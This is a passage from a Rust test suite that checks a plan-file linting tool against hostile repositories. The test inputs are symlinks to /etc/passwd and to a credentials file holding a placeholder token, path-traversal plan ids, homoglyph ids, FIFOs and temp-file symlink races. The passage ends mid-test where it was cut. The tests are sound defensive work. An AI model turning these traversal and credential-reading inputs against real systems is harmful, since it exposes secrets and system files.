//! Hostile repositories (issue 15 and /work/shared/audits/redteam.md): each
//! case is a small repository built in a temporary directory, with a secret
//! beside it that must never appear in any output. kh runs as a child under
//! resource limits (`ulimit -v` and `-t` of a `sh -c`) and a wall-clock
//! timeout; every case checks the located finding, the exit code, that no
//! byte from outside the repository is printed, and that the good pair of
//! plans beside the attack is still checked (its known error, the
//! "companion", is still reported).

use std::os::unix::fs::{FileTypeExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// A secret outside the repository, as a CI runner keeps one.
const SECRET: &str = "https://ci-bot:ghp_SECRETTOKEN1234567890@github.com";
/// The good pair's known error: seeing it shows the other files were checked.
const COMPANION: &str = "plans/phuong-a-2026.yaml:22:13: error[looser-threshold]";
/// Virtual memory (KiB) and CPU seconds a run may use, and its wall time.
const MEMORY_KB: u64 = 1_500_000;
const CPU_SECONDS: u64 = 60;
const WALL: Duration = Duration::from_secs(60);
const FORMATS: &[&str] = &[
    "short", "human", "json", "csv", "markdown", "table", "github", "gitlab",
];

struct Case {
    tmp: tempfile::TempDir,
}

struct Out {
    stdout: String,
    stderr: String,
    code: Option<i32>,
    elapsed: Duration,
}

impl Out {
    fn lines(&self) -> Vec<&str> {
        self.stdout.lines().collect()
    }

    fn has(&self, s: &str) -> bool {
        self.stdout.contains(s)
    }

    fn all(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }
}

impl Case {
    /// `repo/` holds the good pair from examples/looser-threshold and a
    /// `.git` (the top of the work tree); `outside/` holds the secret.
    fn new() -> Case {
        let tmp = tempfile::tempdir().unwrap();
        let c = Case { tmp };
        std::fs::create_dir_all(c.root().join("plans")).unwrap();
        std::fs::create_dir_all(c.root().join(".git")).unwrap();
        for f in ["indicators.yaml", "so-gddt-2026.yaml", "phuong-a-2026.yaml"] {
            std::fs::copy(
                Path::new("examples/looser-threshold/plans").join(f),
                c.root().join("plans").join(f),
            )
            .unwrap();
        }
        std::fs::create_dir_all(c.outside()).unwrap();
        std::fs::write(c.outside().join("git-credentials"), format!("{SECRET}\n")).unwrap();
        // An outside plan whose every field carries the secret.
        std::fs::write(
            c.outside().join("evil.yaml"),
            format!(
                "kh: 1\nid: evil/plan\ntitle: \"{SECRET}\"\nissuer: \"{SECRET}\"\nlevel: commune\nissued: 2026-01\nperiod: 2026\ntasks:\n  - id: t\n    text: \"{SECRET}\"\n    due: Tháng 1/2026\n"
            ),
        )
        .unwrap();
        c
    }

    fn root(&self) -> PathBuf {
        self.tmp.path().join("repo")
    }

    fn outside(&self) -> PathBuf {
        self.tmp.path().join("outside")
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root().join(rel)
    }

    fn write(&self, rel: &str, content: impl AsRef<[u8]>) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }

    fn link(&self, target: impl AsRef<Path>, rel: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        symlink(target, p).unwrap();
    }

    fn fifo(&self, rel: &str) {
        let p = self.path(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        assert!(
            std::process::Command::new("mkfifo")
                .arg(&p)
                .status()
                .unwrap()
                .success()
        );
    }

    fn run(&self, args: &[&str]) -> Out {
        run_in(&self.root(), args)
    }

    /// `kh check` in every format: the companion is found, nothing from
    /// outside is printed, and each run is bounded. Returns the short one.
    fn check_everywhere(&self, extra: &[&str]) -> Out {
        let mut short = None;
        for f in FORMATS {
            let mut args = vec!["check", "--format", f];
            args.extend_from_slice(extra);
            let out = self.run(&args);
            self.assert_nothing_from_outside(&out);
            assert!(
                out.code == Some(1) || out.code == Some(0),
                "--format {f}: {}",
                out.all()
            );
            if *f == "short" {
                short = Some(out);
            }
        }
        let short = short.unwrap();
        assert!(short.has(COMPANION), "{}", short.stdout);
        short
    }

    fn assert_nothing_from_outside(&self, out: &Out) {
        let all = out.all();
        assert!(
            !all.contains("ghp_SECRET"),
            "the secret was printed:\n{all}"
        );
        assert!(!all.contains("root:x:0:0"), "/etc/passwd was printed");
    }
}

/// kh as a child under `ulimit -v` and `ulimit -t`, killed after `WALL`.
fn run_in(dir: &Path, args: &[&str]) -> Out {
    let script = format!("ulimit -v {MEMORY_KB}; ulimit -t {CPU_SECONDS}; exec \"$0\" \"$@\"");
    let start = Instant::now();
    let out = crate::util::kh_plain("sh")
        .arg("-c")
        .arg(script)
        .arg(env!("CARGO_BIN_EXE_kh"))
        .args(args)
        .current_dir(dir)
        .env("COLUMNS", "200")
        .env("LANG", "C")
        .env_remove("NO_COLOR")
        .timeout(WALL)
        .output()
        .unwrap();
    let elapsed = start.elapsed();
    let out = Out {
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        code: out.status.code(),
        elapsed,
    };
    assert!(
        out.code.is_some() && elapsed < WALL,
        "kh {args:?} was killed or timed out after {elapsed:?}: {}",
        out.all()
    );
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    out
}

fn plan(id: &str, parent: Option<&str>, extra: &str) -> String {
    format!(
        "kh: 1\nid: {id}\ntitle: T\nissuer: I\nlevel: commune\nissued: 2026-06\nperiod: 2026\n{}{extra}",
        parent.map(|p| format!("parent: {p}\n")).unwrap_or_default()
    )
}

// ---- F1, F2, F7: links out of the repository -------------------------------

#[test]
fn f01_a_file_linked_outside_is_a_finding_and_never_read() {
    let c = Case::new();
    c.link(c.outside().join("git-credentials"), "plans/creds.yaml");
    c.link("/etc/passwd", "plans/passwd.yaml");
    c.link("../../../outside/evil.yaml", "plans/tinh/evil.yaml");
    let out = c.check_everywhere(&[]);
    for f in ["creds.yaml", "passwd.yaml", "tinh/evil.yaml"] {
        assert!(
            out.has(&format!(
                "plans/{f}:1:1: error[link-outside]: symbolic link points outside the repository; not followed"
            )),
            "{}",
            out.stdout
        );
    }
    assert_eq!(out.code, Some(1));
    // The link's target is never named either.
    assert!(!out.all().contains("outside/"), "{}", out.stdout);
}

#[test]
fn f02_a_directory_linked_outside_is_not_walked() {
    let c = Case::new();
    c.link("/", "plans/root");
    c.link(c.outside(), "plans/out");
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/root:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("plans/out:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
    assert!(out.lines().len() < 10, "{}", out.stdout);
    assert!(out.elapsed < Duration::from_secs(20));
}

#[test]
fn f07_a_device_linked_as_a_plan_is_not_read() {
    let c = Case::new();
    c.link("/dev/zero", "plans/zero.yaml");
    c.link("/dev/urandom", "plans/random.yaml");
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/zero.yaml:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("plans/random.yaml:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
}

#[test]
fn f07_a_device_node_inside_the_repository_is_never_opened() {
    let c = Case::new();
    // Only root may make a device node; elsewhere the case cannot be built.
    let made = std::process::Command::new("mknod")
        .arg(c.path("plans/zero.yaml"))
        .args(["c", "1", "5"])
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        eprintln!("skipped: mknod needs root");
        return;
    }
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/zero.yaml:1:1: error[not-a-file]: this is a character device, not a regular file; not read"),
        "{}",
        out.stdout
    );
}

#[test]
fn links_that_stay_inside_the_repository_are_followed() {
    let c = Case::new();
    std::fs::rename(c.path("plans/phuong-a-2026.yaml"), c.path("shared.yaml")).unwrap();
    c.link("../shared.yaml", "plans/phuong-a-2026.yaml");
    let out = c.run(&["check"]);
    assert!(out.has(COMPANION), "{}", out.stdout);
    assert!(!out.has("link-outside"), "{}", out.stdout);
}

// ---- F3, F4, W12, W15, W16: writing -------------------------------------------

#[test]
fn f03_a_planted_link_at_a_temporary_name_is_never_written_through() {
    let c = Case::new();
    let shared = c.tmp.path().join("shared");
    std::fs::create_dir_all(&shared).unwrap();
    let victim = c.outside().join("victim");
    std::fs::write(&victim, "VICTIM-ORIGINAL").unwrap();
    // The names the old code used, for every pid a child could get soon.
    let max = std::fs::read_to_string("/proc/sys/kernel/pid_last")
        .ok()
        .and_then(|s| s.trim().parse::<u32>().ok())
        .unwrap_or(1000);
    for pid in max..max + 200 {
        symlink(&victim, shared.join(format!(".out.txt.kh-tmp-{pid}"))).unwrap();
    }
    symlink(&victim, shared.join(".out.txt.kh-tmp")).unwrap();
    let out_file = shared.join("out.txt");
    let out = c.run(&["check", "-o", out_file.to_str().unwrap()]);
    assert_eq!(out.code, Some(1), "{}", out.all());
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "VICTIM-ORIGINAL");
    let meta = std::fs::symlink_metadata(&out_file).unwrap();
    assert!(meta.file_type().is_file());
    assert!(
        std::fs::read_to_string(&out_file)
            .unwrap()
            .contains(COMPANION)
    );
    // No temporary file is left behind.
    let left = std::fs::read_dir(&shared)
        .unwrap()
        .filter(|e| {
            let e = e.as_ref().unwrap();
            e.file_type().unwrap().is_file() && e.file_name() != "out.txt"
        })
        .count();
    assert_eq!(left, 0);
}

#[test]
fn f04_two_writers_without_force_never_both_succeed() {
    let c = Case::new();
    let target = c.tmp.path().join("race.txt");
    let t = target.to_str().unwrap().to_string();
    for _ in 0..8 {
        let _ = std::fs::remove_file(&target);
        let spawn = |format: &str| {
            std::process::Command::new(env!("CARGO_BIN_EXE_kh"))
                .args(["check", "--format", format, "-o", &t])
                .current_dir(c.root())
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        };
        let (a, b) = (spawn("json"), spawn("short"));
        let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
        let codes = [a.status.code(), b.status.code()];
        let won = codes.iter().filter(|c| **c == Some(1)).count();
        let refused = codes.iter().filter(|c| **c == Some(2)).count();
        assert_eq!((won, refused), (1, 1), "{codes:?}");
        let content = std::fs::read_to_string(&target).unwrap();
        let json = content.trim_start().starts_with('{');
        assert_eq!(
            json,
            a.status.code() == Some(1),
            "the file holds the winner's output"
        );
        let loser = if json { &b.stderr } else { &a.stderr };
        assert!(String::from_utf8_lossy(loser).contains("already exists"));
    }
}

#[test]
fn w15_output_onto_a_fifo_a_directory_or_a_device_is_refused() {
    let c = Case::new();
    c.fifo("pipe");
    std::fs::create_dir(c.path("adir")).unwrap();
    for target in ["pipe", "adir"] {
        for force in [false, true] {
            let mut args = vec!["check", "-o", target];
            if force {
                args.push("--force");
            }
            let out = c.run(&args);
            assert_eq!(out.code, Some(2), "{target} {force}: {}", out.all());
        }
    }
    assert!(
        std::fs::symlink_metadata(c.path("pipe"))
            .unwrap()
            .file_type()
            .is_fifo()
    );
    assert!(c.path("adir").is_dir());
    // A link to a device is refused too, and the link is left alone.
    c.link("/dev/null", "null-link");
    let out = c.run(&["check", "-o", "null-link", "--force"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(
        out.stderr.contains("a device, not a regular file"),
        "{}",
        out.stderr
    );
    assert!(
        std::fs::symlink_metadata(c.path("null-link"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

#[test]
fn w16_a_failed_init_leaves_nothing_behind() {
    let c = Case::new();
    let dir = c.tmp.path().join("new");
    std::fs::create_dir_all(&dir).unwrap();
    // `plans` is a file: the plans directory cannot be made.
    std::fs::write(dir.join("plans"), "not a directory").unwrap();
    let out = run_in(c.tmp.path(), &["init", "new"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    let left: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left, ["plans"], "init wrote part of a repository");
    // And once it can, it writes everything.
    std::fs::remove_file(dir.join("plans")).unwrap();
    let out = run_in(c.tmp.path(), &["init", "new"]);
    assert_eq!(out.code, Some(0), "{}", out.all());
    assert!(dir.join("plans/indicators.yaml").is_file());
    assert!(dir.join(".gitlab-ci.yml").is_file());
}

// ---- F5, F6, F8: special files --------------------------------------------------

#[test]
fn f05_a_fifo_plan_does_not_hang() {
    let c = Case::new();
    c.fifo("plans/x.yaml");
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/x.yaml:1:1: error[not-a-file]: this is a FIFO (named pipe), not a regular file; not read"),
        "{}",
        out.stdout
    );
}

#[test]
fn f06_f08_a_fifo_or_a_device_as_a_report_does_not_hang() {
    let c = Case::new();
    c.fifo("reports/a.csv");
    c.link("/dev/zero", "reports/z.csv");
    c.link(c.outside().join("git-credentials"), "reports/creds.csv");
    let out = c.check_everywhere(&["--today", "2026-12-01"]);
    assert!(
        out.has("reports/a.csv:1:1: error[not-a-file]"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("reports/z.csv:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("reports/creds.csv:1:1: error[link-outside]"),
        "{}",
        out.stdout
    );
}

// ---- F9, W17, W29: loops and depth ----------------------------------------------

#[test]
fn f09_report_link_loops_read_each_file_once() {
    let c = Case::new();
    c.write(
        "reports/a.csv",
        "plan,metric,value,as_of\ntinh/phuong-a-2026,teachers-using-ai,abc,2026-01-01\n",
    );
    for l in ["l1", "l2", "l3"] {
        c.link(".", &format!("reports/{l}"));
    }
    let out = c.check_everywhere(&["--today", "2026-12-01"]);
    let bad_rows = out
        .lines()
        .iter()
        .filter(|l| l.contains("report-value"))
        .count();
    assert_eq!(bad_rows, 1, "{}", out.stdout);
    for l in ["l1", "l2", "l3"] {
        assert!(
            out.has(&format!("reports/{l}:1:1: error[link-loop]")),
            "{}",
            out.stdout
        );
    }
    let status = c.run(&["status", "--as-of", "2026-06-01"]);
    assert!(
        status.stderr.matches("report-value").count() == 1,
        "{}",
        status.stderr
    );
}

#[test]
fn w17_deep_directories_stop_with_a_finding() {
    let c = Case::new();
    let deep = format!("plans{}", "/d".repeat(400));
    std::fs::create_dir_all(c.path(&deep)).unwrap();
    c.write(&format!("{deep}/x.yaml"), plan("tinh/x", None, ""));
    let out = c.check_everywhere(&[]);
    let stopped = format!("plans{}:1:1: error[too-deep]", "/d".repeat(33));
    assert!(out.has(&stopped), "{}", out.stdout);
}

#[test]
fn w29_the_same_directory_twice_is_read_once() {
    let c = Case::new();
    let out = c.run(&["check", "plans", "plans"]);
    assert!(out.has(COMPANION));
    assert!(!out.has("link-loop"), "{}", out.stdout);
    assert!(!out.has("duplicate-id"), "{}", out.stdout);
}

// ---- F10, F19: size limits ----------------------------------------------------------

#[test]
fn f10_a_huge_kh_yaml_is_never_read_whole() {
    let c = Case::new();
    let f = std::fs::File::create(c.path("kh.yaml")).unwrap();
    f.set_len(3 * 1024 * 1024 * 1024).unwrap();
    let out = c.run(&["--version"]);
    assert_eq!(out.code, Some(0));
    assert!(out.elapsed < Duration::from_secs(10));
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(2));
    assert!(
        out.stderr
            .contains("kh.yaml: file is 3072.0 MB: a settings file is at most 1 MB; not read"),
        "{}",
        out.stderr
    );
}

#[test]
fn f10_kh_yaml_as_a_fifo_or_a_link_out_cannot_run_and_says_why() {
    let c = Case::new();
    c.fifo("kh.yaml");
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(2));
    assert!(
        out.stderr.contains("kh.yaml: this is a FIFO"),
        "{}",
        out.stderr
    );
    std::fs::remove_file(c.path("kh.yaml")).unwrap();
    c.link(c.outside().join("git-credentials"), "kh.yaml");
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(2));
    assert!(
        out.stderr
            .contains("kh.yaml: symbolic link points outside the repository"),
        "{}",
        out.stderr
    );
    c.assert_nothing_from_outside(&out);
}

#[test]
fn f19_report_size_and_findings_are_bounded() {
    let c = Case::new();
    let f = std::fs::File::create(c.path("reports/huge.csv")).unwrap_or_else(|_| {
        std::fs::create_dir_all(c.path("reports")).unwrap();
        std::fs::File::create(c.path("reports/huge.csv")).unwrap()
    });
    f.set_len(40 * 1024 * 1024).unwrap();
    let mut rows = String::from("plan,metric,value,as_of\n");
    for _ in 0..100_000 {
        rows.push_str("tinh/phuong-a-2026,teachers-using-ai,abc,2026-01-01\n");
    }
    c.write("reports/bad.csv", rows);
    let out = c.check_everywhere(&["--today", "2026-12-01"]);
    assert!(
        out.has("reports/huge.csv:1:1: error[too-large]: file is 40.0 MB: a report (CSV) is at most 32 MB; not read"),
        "{}",
        out.stdout
    );
    let bad = out
        .lines()
        .iter()
        .filter(|l| l.starts_with("reports/bad.csv"))
        .count();
    assert_eq!(bad, 101, "100 findings and a closing one");
    assert!(
        out.has(
            "reports/bad.csv:1:1: note[too-many-findings]: and 99900 more findings in this file"
        )
    );
}

// ---- F11, W28: dates and durations ------------------------------------------------

#[test]
fn f11_huge_windows_and_dates_are_refused_without_a_panic() {
    let c = Case::new();
    for args in [
        &["due", "--within", "100000000d"][..],
        &["due", "--within", "9223372036854775807d"],
        &["due", "--today", "+262142-12-31"],
        &["due", "--today", "+262142-12-31", "--within", "1d"],
        &["due", "--today=-262143-01-01", "--overdue"],
        &["due", "--month", "12/99999"],
        &["due", "--month", "0000-12"],
        &["due", "--quarter", "IV/99999"],
        &["due", "--from", "0001-01-01"],
        &["check", "--today", "+262142-12-31"],
        &["status", "--as-of", "+262142-12-31"],
    ] {
        let out = c.run(args);
        assert_eq!(out.code, Some(2), "{args:?}: {}", out.all());
        assert!(
            out.stderr.contains("outside the years 1900 to 2200")
                || out.stderr.contains("at most 36600 days")
                || out.stderr.contains("is not a quarter")
                || out.stderr.contains("is outside 1900 to 2200"),
            "{args:?}: {}",
            out.stderr
        );
    }
}

#[test]
fn w09_report_dates_out_of_range_are_findings() {
    let c = Case::new();
    c.write(
        "reports/a.csv",
        "plan,metric,value,as_of\ntinh/phuong-a-2026,teachers-using-ai,20%,0000-01-01\n",
    );
    let out = c.check_everywhere(&["--today", "2026-12-01"]);
    assert!(
        out.has("reports/a.csv:2:1: error[report-date]: as_of `0000-01-01` is outside the years 1900 to 2200"),
        "{}",
        out.stdout
    );
}

// ---- F12, F22, W4, W5, W6: ids ---------------------------------------------------------

#[test]
fn f12_a_homoglyph_twin_cannot_replace_the_real_parent() {
    let c = Case::new();
    let real = std::fs::read_to_string(c.path("plans/so-gddt-2026.yaml")).unwrap();
    let twin = real
        .replace("id: tinh/so-gddt-2026", "id: tinh/\u{0455}o-gddt-2026")
        .replace("tối thiểu 20%", "tối thiểu 10%");
    c.write("plans/so-gddt-2026-twin.yaml", twin);
    let ward = std::fs::read_to_string(c.path("plans/phuong-a-2026.yaml")).unwrap();
    c.write(
        "plans/phuong-a-2026.yaml",
        ward.replace(
            "parent: tinh/so-gddt-2026",
            "parent: tinh/\u{0455}o-gddt-2026",
        ),
    );
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(1), "{}", out.stdout);
    assert!(
        out.has("plans/so-gddt-2026-twin.yaml:2:5: error[bad-id]"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("plans/so-gddt-2026.yaml:2:5: error[confusable-id]: plan id `tinh/so-gddt-2026` looks like `tinh/\u{0455}o-gddt-2026`, the id of another plan"),
        "{}",
        out.stdout
    );
    assert!(out.has("[plan with a look-alike id: plans/so-gddt-2026-twin.yaml:2:5]"));
    assert!(
        out.has("plans/phuong-a-2026.yaml:9:9: error[bad-id]"),
        "{}",
        out.stdout
    );
}

#[test]
fn w04_a_homoglyph_parent_is_an_error_naming_the_real_plan() {
    let c = Case::new();
    let ward = std::fs::read_to_string(c.path("plans/phuong-a-2026.yaml")).unwrap();
    c.write(
        "plans/phuong-a-2026.yaml",
        ward.replace(
            "parent: tinh/so-gddt-2026",
            "parent: tinh/\u{0455}o-gddt-2026",
        ),
    );
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.has("plans/phuong-a-2026.yaml:9:9: error[confusable-id]: parent `tinh/\u{0455}o-gddt-2026` is not a plan of the repository but looks like `tinh/so-gddt-2026`"),
        "{}",
        out.stdout
    );
}

#[test]
fn w05_w06_ids_outside_the_grammar_are_errors() {
    let c = Case::new();
    let ids = [
        "\"../../etc/passwd\"",
        "/etc/passwd",
        "a/../../b",
        "\"a\\\\b\"",
        "\"line1\\nline2\"",
        "TINH/SO-GDDT-2026",
        "\"tinh/\\u202eso-gddt-2026\"",
        "\"tinh/so\u{2010}gddt\"",
    ];
    for (n, id) in ids.iter().enumerate() {
        c.write(&format!("plans/id{n}.yaml"), plan(id, None, ""));
    }
    let out = c.check_everywhere(&[]);
    for n in 0..ids.len() {
        assert!(
            out.has(&format!("plans/id{n}.yaml:2:5: error[bad-id]")),
            "id{n}: {}",
            out.stdout
        );
    }
    // Controls and bidi marks are shown escaped, never raw.
    assert!(!out.stdout.contains('\u{202e}'));
    assert!(out.has("line1\\nline2"), "{}", out.stdout);
}

#[test]
fn f22_plan_ids_on_the_command_line_never_name_a_path_outside_plans() {
    let c = Case::new();
    for id in [
        "../../outside/evil",
        "/etc/passwd",
        "a/../../../outside/evil",
        "tinh/../../x",
    ] {
        for cmd in [
            &["due", "--plan", id][..],
            &["status", "--plan", id],
            &["diff", id, "tinh/so-gddt-2026"],
        ] {
            let out = c.run(cmd);
            c.assert_nothing_from_outside(&out);
            assert_ne!(out.code, Some(0), "{cmd:?}: {}", out.all());
        }
        let out = c.run(&[
            "due",
            "--plan",
            id,
            "--today",
            "2026-01-01",
            "--format",
            "csv",
        ]);
        assert_eq!(out.code, Some(2));
        assert!(out.stderr.contains("is not a plan id"), "{}", out.stderr);
    }
}

#[test]
fn f22_a_directory_link_on_the_way_to_a_plan_is_not_followed() {
    let c = Case::new();
    std::fs::create_dir_all(c.outside().join("evil")).unwrap();
    std::fs::copy(
        c.outside().join("evil.yaml"),
        c.outside().join("evil/plan.yaml"),
    )
    .unwrap();
    c.link(c.outside(), "plans/evil");
    let out = c.run(&["due", "--plan", "evil/plan", "--today", "2026-01-01"]);
    c.assert_nothing_from_outside(&out);
    assert_eq!(out.code, Some(2), "{}", out.all());
}

#[test]
fn confusable_catalog_keys_metrics_and_units_are_errors() {
    let c = Case::new();
    c.write(
        "plans/x/indicators.yaml",
        "kh: 1\nindicators:\n  - key: teachers-using-a\u{0456}\n    name: x\n    unit: percent\n",
    );
    c.write(
        "plans/u.yaml",
        plan(
            "tinh/u",
            None,
            "units:\n  VP: Văn phòng\n  V\u{0420}: Văn phòng giả\ntargets:\n  - id: \"1\"\n    text: T\n    metric: schools-issuing-p\u{0406}an\n    target: 100%\n",
        ),
    );
    let out = c.run(&["check"]);
    assert_eq!(out.code, Some(1));
    assert!(
        out.has("plans/x/indicators.yaml:3:10: error[confusable-id]: indicator key"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("error[confusable-id]: unit abbreviation"),
        "{}",
        out.stdout
    );
    assert!(
        out.has("error[confusable-id]: metric `schools-issuing-p"),
        "{}",
        out.stdout
    );
}

// ---- F13: catalogs --------------------------------------------------------------------------

#[test]
fn f13_a_second_catalog_cannot_override_the_first() {
    let c = Case::new();
    c.write(
        "plans/0/indicators.yaml",
        "kh: 1\nindicators:\n  - key: teachers-using-ai\n    name: x\n    unit: percent\n    direction: lower\n",
    );
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("plans/indicators.yaml:8:10: error[duplicate-catalog-key]: indicator key `teachers-using-ai` is already defined in another catalog file")
            || out.has("plans/0/indicators.yaml:3:10: error[duplicate-catalog-key]"),
        "{}",
        out.stdout
    );
    assert_eq!(out.code, Some(1));
}

// ---- F14, F23, issue 16: which repository -----------------------------------------------------

#[test]
fn f14_a_kh_yaml_higher_up_never_takes_over() {
    let c = Case::new();
    // evil/ above the repository, and a kh.yaml pointing at it.
    std::fs::create_dir_all(c.tmp.path().join("evil")).unwrap();
    std::fs::write(c.tmp.path().join("kh.yaml"), "plans: evil\n").unwrap();
    let out = c.run(&["check"]);
    assert!(out.has(COMPANION), "{}", out.stdout);
    assert!(out.has("checked 2 plans in . ("), "{}", out.stdout);
    // Below the repository, its root is named.
    std::fs::create_dir_all(c.path("plans/tinh")).unwrap();
    let out = run_in(&c.path("plans/tinh"), &["check"]);
    assert!(out.has("checked 2 plans in ../.. ("), "{}", out.stdout);
}

#[test]
fn f14_the_search_stops_at_the_top_of_the_git_work_tree() {
    let c = Case::new();
    // A checkout with no kh.yaml and no plans/, inside a folder that has both.
    let checkout = c.path("vendor/other");
    std::fs::create_dir_all(checkout.join(".git")).unwrap();
    std::fs::create_dir_all(checkout.join("src")).unwrap();
    std::fs::write(c.path("kh.yaml"), "").unwrap();
    let out = run_in(&checkout.join("src"), &["check"]);
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(
        out.stderr.contains("no plans repository here"),
        "{}",
        out.stderr
    );
}

#[test]
fn issue16_the_nearest_repository_wins() {
    let c = Case::new();
    std::fs::write(c.path("kh.yaml"), "strict: true\n").unwrap();
    let inner = c.path("examples/deadline");
    std::fs::create_dir_all(inner.join("plans")).unwrap();
    std::fs::write(inner.join("plans/a.yaml"), plan("tinh/a", None, "")).unwrap();
    let out = run_in(&inner, &["check"]);
    assert_eq!(out.code, Some(0), "{}", out.all());
    assert!(!out.has(COMPANION), "the outer repository was checked");
    assert_eq!(
        out.lines(),
        ["checked 1 plan in . (1 file read, 0 with errors): 0 errors, 0 warnings, 0 notes"]
    );
    let out = run_in(&inner.join("plans"), &["check"]);
    assert_eq!(
        out.lines(),
        ["checked 1 plan in .. (1 file read, 0 with errors): 0 errors, 0 warnings, 0 notes"]
    );
}

#[test]
fn f23_paths_in_kh_yaml_stay_inside_the_repository() {
    let c = Case::new();
    c.link(c.outside(), "linked");
    for (setting, why) in [
        ("plans: /etc", "`plans: /etc` is outside the repository"),
        (
            "plans: ../outside",
            "`plans: ../outside` is outside the repository",
        ),
        ("plans: plans/../../outside", "is outside the repository"),
        ("reports: /etc", "`reports: /etc` is outside the repository"),
        (
            "plans: linked",
            "linked: a symbolic link that points outside the repository",
        ),
    ] {
        std::fs::write(c.path("kh.yaml"), format!("{setting}\n")).unwrap();
        let out = c.run(&["check"]);
        c.assert_nothing_from_outside(&out);
        assert_eq!(out.code, Some(2), "{setting}: {}", out.all());
        assert!(out.stderr.contains(why), "{setting}: {}", out.stderr);
    }
}

#[test]
fn f16_a_reports_location_asked_for_but_missing_is_a_finding() {
    let c = Case::new();
    std::fs::write(c.path("kh.yaml"), "reports: reprots\n").unwrap();
    let out = c.check_everywhere(&[]);
    assert!(
        out.has("reprots:1:1: error[unreadable]: reports directory not found"),
        "{}",
        out.stdout
    );
    std::fs::remove_file(c.path("kh.yaml")).unwrap();
    let out = c.run(&[
        "status",
        "--as-of",
        "2026-06-01",
        "--reports",
        "/nonexistent/dir",
    ]);
    assert!(
        out.stderr.contains("reports directory not found"),
        "{}",
        out.all()
    );
    // Never a table of "no data" with exit 0 (issue 16).
    assert_eq!(out.code, Some(2), "{}", out.all());
    assert!(out.stdout.is_empty(), "{}", out.stdout);
}

// ---- F18, F20, F21: time and memory that must stay linear ------------------------------------

#[test]
fn f18_a_ring_of_parents_is_one_short_finding() {
    let c = Case::new();
    let n = 5000;
    for i in 0..n {
        c.write(
            &format!("plans/r/c{i}.yaml"),
            plan(
                &format!("r/c{i}"),
                Some(&format!("r/c{}", (i + n - 1) % n)),
                "",
            ),
        );
    }
    let out = c.run(&["check"]);
    let cycles: Vec<&str> = out
        .lines()
        .into_iter()
        .filter(|l| l.contains("parent-cycle"))
        .collect();
    assert_eq!(cycles.len(), 1, "one finding per cycle");
    assert!(cycles[0].len() < 1000, "{}", cycles[0]);
    assert!(cycles[0].contains("5000 plans"), "{}", cycles[0]);
    assert!(out.stdout.len() < 100_000);
}

#[test]
fn f20_did_you_mean_over_many_plans_and_rows_is_bounded() {
    let c = Case::new();
    for i in 0..3000 {
        c.write(
            &format!("plans/t/p{i}.yaml"),
            plan(&format!("tinh/truong-thpt-so-{i}-2026"), None, ""),
        );
    }
    let mut rows = String::from("plan,metric,value,as_of\n");
    for i in 0..20_000 {
        rows.push_str(&format!("tinh/truong-thcs-so-{i}-2026,m,1%,2026-01-01\n"));
    }
    c.write("reports/r.csv", rows);
    let out = c.run(&["check", "--today", "2026-12-01"]);
    assert!(out.elapsed < Duration::from_secs(30), "{:?}", out.elapsed);
    assert!(
        out.has("did you mean `tinh/truong-thpt-so-"),
        "{}",
        &out.stdout[..out.stdout.len().min(2000)]
    );
    assert!(out.has("note[too-many-findings]"));
}

#[test]
fn f21_a_valid_plan_cannot_make_kh_due_use_unbounded_memory() {
    // 5,000 monthly tasks over three centuries: 18 million occurrences, more
    // than the 16 million one `kh due` holds (a few bytes each).
    let c = Case::new();
    let tasks: String = (0..5000)
        .map(|i| format!("  - id: t{i}\n    text: T\n    due: hằng tháng\n"))
        .collect();
    c.write(
        "plans/long.yaml",
        format!("kh: 1\nid: tinh/long\ntitle: T\nissuer: I\nlevel: province\nissued: 1900-01\nperiod: 1900-2200\ntasks:\n{tasks}"),
    );
    let due = |from: &str, to: &str, format: &str| {
        c.run(&[
            "due",
            "--from",
            from,
            "--to",
            to,
            "--today",
            "2026-01-01",
            "--format",
            format,
        ])
    };
    let out = due("1900-01-01", "2200-12-31", "csv");
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    assert!(
        out.stderr
            .contains("more than 16000000 occurrences fall between"),
        "{}",
        out.stderr
    );
    // A calendar is built whole: it holds at most a million (these 60,000 fit).
    let out = due("2026-01-01", "2026-12-31", "ics");
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let out = due("2010-01-01", "2026-12-31", "ics");
    assert_eq!(out.code, Some(2), "{}", out.stderr);
